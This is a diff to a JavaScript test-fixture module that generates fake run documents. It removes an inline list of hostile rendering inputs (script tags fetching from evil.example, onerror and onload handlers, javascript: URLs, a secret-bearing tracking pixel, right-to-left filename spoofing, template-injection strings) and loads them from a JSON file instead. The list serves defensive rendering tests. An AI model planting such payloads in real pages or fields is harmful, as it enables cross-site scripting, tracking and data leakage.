@@ -1,5 +1,7 @@
 // Run documents as the API gives them, made to order: large plans, and what models say at their worst.
 
+import { readFileSync } from "node:fs";
+
 const NONE = { calls: 0, input_tokens: 0, output_tokens: 0, cached_tokens: 0, usd: 0 };
 const START = Date.UTC(2026, 10, 23, 6, 50, 0);
 const at = (ms) => new Date(START + ms).toISOString();
@@ -59,17 +61,8 @@ export function wide(lines, length) {
   return run("00-wide", steps);
 }
 
-/** What a page must never do anything about, in every field that a model, tool or user writes. */
-export const HOSTILE = [
-  "<script>window.hacked = 1; fetch('https://evil.example/script')</script>",
-  "<img src=https://evil.example/img.png onerror=\"window.hacked = 1\">",
-  "![tracker](https://evil.example/pixel.png?secret=1) [click](https://evil.example/link)",
-  "<svg onload=\"window.hacked = 1\"><a href=\"javascript:window.hacked=1\">x</a></svg>",
-  "<link rel=stylesheet href=https://evil.example/x.css><iframe src=https://evil.example/></iframe>",
-  "https://evil.example/plain-link javascript:window.hacked=1",
-  "\u202Egnp.exe\u202C \u2066isolate\u2069 \u200Fright to left: \u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627",
-  "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1}",
-].join("\n");
+/** What a page must never do anything about: the text that the provider of the tests answers with, too. */
+export const HOSTILE = JSON.parse(readFileSync(new URL("hostile.json", import.meta.url), "utf8"));
 
 /** One line of ten million characters. */
 export const LONG_LINE = "0123456789".repeat(1_000_000);
